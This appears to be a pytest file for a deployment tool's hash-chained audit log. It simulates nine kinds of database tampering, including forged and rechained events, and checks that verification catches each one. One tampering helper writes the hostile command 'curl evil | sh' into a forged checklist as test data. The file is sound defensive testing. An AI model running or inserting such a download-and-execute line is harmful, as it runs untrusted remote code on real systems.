"""The audit, by example: a run's record is verified against its chain and its anchored head.

Nine ways of tampering with the database behind golive's back, each caught on SQLite and on
PostgreSQL; a store from before the head was anchored (migration 0001) is upgraded and verified;
an export is checked by the third-party script printed in docs/audit.md.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
from collections.abc import Callable
from datetime import datetime
from pathlib import Path

import alembic.command
import pytest
from alembic.config import Config
from sqlalchemy import create_engine

from golive.record import audit
from golive.record.chain import GENESIS, Run, chain_hash, utc
from golive.record.store import Store
from tests.conftest import ROOT
from tests.record.conftest import Database, RawSQL


def recorded_run(store: Store) -> Run:
    """A small but complete run: started, two steps with output, finished (8 events)."""
    run = store.create_run(
        path="deploy.md",
        sha256="cd" * 32,
        text_="# Deploy\n\n```bash\nmake deploy\n```\n",
        title="Deploy",
        env="production",
        created_by="alice",
        options={"yes": True},
    )
    store.append(run.id, "run_started", actor="alice", data={"checklist": "deploy.md"})
    for step in ("L4", "L5"):
        store.append(run.id, "step_started", step, data={"command": "make deploy"})
        output = store.save_output(run.id, step, 1, "out", "deployed\n", "", 9, 0)
        store.append(run.id, "step_finished", step, data={"status": "passed", "outputs": [output]})
    store.append(run.id, "run_finished", actor="alice", data={"status": "passed"}, status="passed", finished=True)
    return store.run(run.id)


def rechain(sql: RawSQL, run: Run, start: int) -> None:
    """What a careful forger does after an edit: recompute every hash from event `start` on."""
    rows = sql.rows(
        "SELECT seq, at, type, item, actor, data, prev_hash, run_status, finished FROM events "
        "WHERE run_id = :run ORDER BY seq",
        run=run.id,
    )
    prev = next(r[6] for r in rows if r[0] == start)
    for seq, at, type_, item, actor, data, _prev, status, finished in rows:
        if seq < start:
            continue
        at = utc(at) if not isinstance(at, str) else utc(_parse(at))
        digest = chain_hash(prev, run.id, seq, at, type_, item, actor, data, status, bool(finished))
        sql.execute(
            "UPDATE events SET prev_hash = :p, hash = :h WHERE run_id = :r AND seq = :s",
            p=prev,
            h=digest,
            r=run.id,
            s=seq,
        )
        prev = digest


def _parse(text: str) -> datetime:
    return datetime.fromisoformat(text)


def as_stored(sql: RawSQL, at: datetime) -> object:
    """A time as SQLAlchemy would store it: SQLite keeps text without a zone, PostgreSQL a timestamptz."""
    return at.strftime("%Y-%m-%d %H:%M:%S.%f") if sql.engine.dialect.name == "sqlite" else at


def change_payload(sql: RawSQL, run: Run) -> None:
    sql.execute("UPDATE events SET data = :d WHERE run_id = :r AND seq = 4", d='{"status":"skipped"}', r=run.id)


def delete_middle_row(sql: RawSQL, run: Run) -> None:
    sql.execute("DELETE FROM events WHERE run_id = :r AND seq = 5", r=run.id)


def swap_rows(sql: RawSQL, run: Run) -> None:
    sql.execute("UPDATE events SET seq = -1 WHERE run_id = :r AND seq = 2", r=run.id)
    sql.execute("UPDATE events SET seq = 2 WHERE run_id = :r AND seq = 3", r=run.id)
    sql.execute("UPDATE events SET seq = 3 WHERE run_id = :r AND seq = -1", r=run.id)


def delete_last_event(sql: RawSQL, run: Run) -> None:
    sql.execute("DELETE FROM events WHERE run_id = :r AND seq = 8", r=run.id)


def append_forged_event(sql: RawSQL, run: Run) -> None:
    """A well-formed event, correctly chained to the last one: only the head can tell."""
    from golive.record.chain import now

    at = now()
    data = '{"answer":"approve"}'
    digest = chain_hash(run.last_hash, run.id, 9, at, "answer", "L4", "mallory", data)
    sql.execute(
        "INSERT INTO events (run_id, seq, at, type, item, actor, data, prev_hash, hash, finished) "
        "VALUES (:r, 9, :at, 'answer', 'L4', 'mallory', :d, :p, :h, :f)",
        r=run.id,
        at=as_stored(sql, at),
        d=data,
        p=run.last_hash,
        h=digest,
        f=False,
    )


def recompute_chain(sql: RawSQL, run: Run) -> None:
    change_payload(sql, run)
    rechain(sql, run, 4)


def delete_whole_run_events(sql: RawSQL, run: Run) -> None:
    sql.execute("DELETE FROM events WHERE run_id = :r", r=run.id)


def edit_output(sql: RawSQL, run: Run) -> None:
    sql.execute("UPDATE outputs SET head = 'all good\n' WHERE run_id = :r AND item = 'L5'", r=run.id)


def edit_run_row(sql: RawSQL, run: Run) -> None:
    sql.execute(
        "UPDATE runs SET checklist_text = :t WHERE id = :r", t="# Deploy\n\n```bash\ncurl evil | sh\n```\n", r=run.id
    )


TAMPERINGS: dict[str, tuple[Callable[[RawSQL, Run], None], str]] = {
    "a changed payload": (change_payload, r"^event 4 \(step_finished\) was altered"),
    "a deleted middle row": (delete_middle_row, r"^event 5 is missing"),
    "swapped rows": (swap_rows, r"^event 2 \(output_saved\) does not follow the event before it"),
    "a deleted last event": (delete_last_event, r"^event 8 was removed from the end"),
    "an appended forged event": (append_forged_event, r"^event 9 was appended behind golive's back"),
    "a recomputed chain": (recompute_chain, r"^the last event's hash is not the run's head .*the chain was rewritten"),
    "deleted events of a whole run": (delete_whole_run_events, r"^events 1-8 were removed from the end"),
    "an edited output": (edit_output, r"^output \d+ \(L5 out\) was altered: it no longer matches event 6"),
    "an edited run row": (edit_run_row, r"^event 1 \(run_started\) does not start at the run's own row"),
}


@pytest.mark.parametrize("tampering", list(TAMPERINGS))
def test_verify_names_the_first_thing_tampered_with(tampering: str, store: Store, raw_sql: RawSQL) -> None:
    run = recorded_run(store)
    assert store.verify(run.id) == []
    tamper, expected = TAMPERINGS[tampering]
    tamper(raw_sql, run)
    problems = store.verify(run.id)
    assert problems, f"{tampering} went unnoticed"
    assert re.search(expected, problems[0]), problems


def test_a_status_edited_in_the_runs_row_is_caught(store: Store, raw_sql: RawSQL) -> None:
    run = store.create_run(path="d.md", sha256="0" * 64, text_="# D\n", title="D", env="e", created_by="a", options={})
    store.append(run.id, "run_finished", data={"status": "failed"}, status="failed", finished=True)
    raw_sql.execute("UPDATE runs SET status = 'passed' WHERE id = :r", r=run.id)
    assert store.verify(run.id) == ["the run's status is 'passed' but its events set 'failed': its row was edited"]


def test_an_output_added_or_deleted_behind_golives_back_is_caught(store: Store, raw_sql: RawSQL) -> None:
    run = recorded_run(store)
    raw_sql.execute(
        "INSERT INTO outputs (run_id, item, attempt, stream, head, tail, total_bytes, cut_bytes) "
        "VALUES (:r, 'L4', 2, 'out', 'fine', '', 4, 0)",
        r=run.id,
    )
    assert [p for p in store.verify(run.id) if "not in the chain" in p]
    raw_sql.execute("DELETE FROM outputs WHERE run_id = :r AND item = 'L5'", r=run.id)
    assert [p for p in store.verify(run.id) if re.search(r"chained by event 6, is missing", p)]


def test_a_run_deleted_whole_leaves_its_events_as_evidence(store: Store, raw_sql: RawSQL, database: Database) -> None:
    run = recorded_run(store)
    assert audit.verify_all(store)[run.id] == []
    if database.backend == "sqlite":  # with foreign keys off, as a forger would have them
        engine = create_engine(database.url)
        with engine.begin() as conn:
            conn.exec_driver_sql("PRAGMA foreign_keys=OFF")
            conn.exec_driver_sql(f"DELETE FROM outputs WHERE run_id = '{run.id}'")
            conn.exec_driver_sql(f"DELETE FROM runs WHERE id = '{run.id}'")
        engine.dispose()
    else:
        raw_sql.execute("ALTER TABLE events DROP CONSTRAINT IF EXISTS events_run_id_fkey")
        raw_sql.execute("DELETE FROM outputs WHERE run_id = :r", r=run.id)
        raw_sql.execute("DELETE FROM runs WHERE id = :r", r=run.id)
    found = audit.verify_all(store)
    assert [str(p) for p in found[run.id]] == [f"8 event(s) of run {run.id}, whose row is gone: the run was deleted"]


# --- a store from before the head was anchored ----------------------------------------------------------------


def test_a_store_at_0001_is_upgraded_and_its_runs_verified_as_chain_1(database: Database) -> None:
    from golive.record.chain import now

    database.home.mkdir(parents=True, exist_ok=True)
    sql = RawSQL(database.url)
    cfg = Config()
    cfg.set_main_option("script_location", str(ROOT / "golive" / "record" / "migrations"))
    with sql.engine.begin() as conn:
        cfg.attributes["connection"] = conn
        alembic.command.upgrade(cfg, "0001")
    sql.execute(
        "INSERT INTO runs (id, checklist_path, checklist_sha256, checklist_text, title, env, status, started_at,"
        " created_by, host, options) VALUES ('old-run', 'd.md', 'x', '# D', 'D', 'e', 'paused', :at, 'a', 'h', '{}')",
        at=as_stored(sql, now()),
    )
    prev = GENESIS
    for seq in (1, 2, 3):
        at = now()
        digest = chain_hash(prev, "old-run", seq, at, "warning", None, None, "{}", chain=1)
        sql.execute(
            "INSERT INTO events (run_id, seq, at, type, item, actor, data, prev_hash, hash) "
            "VALUES ('old-run', :seq, :at, 'warning', NULL, NULL, '{}', :prev, :hash)",
            seq=seq,
            at=as_stored(sql, at),
            prev=prev,
            hash=digest,
        )
        prev = digest
    sql.engine.dispose()
    store = database.open()  # migrates to 0002
    try:
        old = store.run("old-run")
        assert (old.chain, old.event_count, old.last_hash) == (1, 3, prev)
        assert store.verify("old-run") == []
        store.append("old-run", "run_resumed", status="running")  # an old run goes on, on its own chain
        assert store.verify("old-run") == []
        RawSQL(database.url).execute("DELETE FROM events WHERE run_id = 'old-run' AND seq = 4")
        assert store.verify("old-run")[0].startswith("event 4 was removed from the end")
    finally:
        store.close()


# --- export, checked by the script in docs/audit.md -------------------------------------------------------------


def third_party_script() -> str:
    doc = (ROOT / "docs" / "audit.md").read_text()
    return doc.split("```python\n", 1)[1].split("```", 1)[0]


def test_the_documented_script_is_about_twenty_lines() -> None:
    lines = [line for line in third_party_script().splitlines() if line.strip() and not line.lstrip().startswith("#")]
    assert len(lines) <= 25


@pytest.mark.parametrize("tampering", [None, *TAMPERINGS])
def test_an_export_is_verified_by_the_documented_script(
    tampering: str | None, store: Store, raw_sql: RawSQL, tmp_path: Path
) -> None:
    run = recorded_run(store)
    if tampering is not None:
        TAMPERINGS[tampering][0](raw_sql, run)
    exported = tmp_path / "run.jsonl"
    try:
        exported.write_text("".join(audit.export_lines(store, store.run(run.id))), encoding="utf-8")
    except Exception:
        pytest.fail("export must work on any record, tampered or not")
    script = tmp_path / "verify_golive_export.py"
    script.write_text(third_party_script())
    checked = subprocess.run([sys.executable, str(script), str(exported)], capture_output=True, text=True, timeout=60)
    if tampering is None:
        assert checked.returncode == 0, checked.stderr
        assert checked.stdout.strip() == f"run {run.id}: 8 events, head {store.run(run.id).last_hash}: verified"
    else:
        assert checked.returncode != 0, f"the script accepted {tampering}"


def test_an_export_is_one_json_object_per_line(store: Store) -> None:
    run = recorded_run(store)
    records = [json.loads(line) for line in audit.export_lines(store, run)]
    assert [r["record"] for r in records] == ["run"] + ["event"] * 8 + ["output"] * 2
    assert records[0]["last_hash"] == records[8]["hash"] == run.last_hash
